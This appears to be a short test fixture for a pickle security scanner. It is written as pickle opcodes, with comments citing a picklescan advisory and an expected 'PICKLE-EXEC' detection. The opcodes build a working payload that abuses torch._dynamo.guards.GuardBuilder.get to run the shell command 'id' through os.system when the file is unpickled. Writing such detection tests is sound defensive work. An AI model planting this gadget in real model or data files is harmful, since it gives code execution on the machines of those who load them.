#! technique 41 torch._dynamo.guards.GuardBuilder.get evaluates a string
#! expect PICKLE-EXEC torch._dynamo.guards.GuardBuilder.get
# picklescan GHSA-86cj-95qr-2p4f / CVE-2025-71353. Unbound method with {} as self.
PROTO 4
SHORT_BINUNICODE "torch._dynamo.guards"
SHORT_BINUNICODE "GuardBuilder.get"
STACK_GLOBAL
EMPTY_DICT
SHORT_BINUNICODE "__import__('os').system('id')"
TUPLE2
REDUCE
STOP
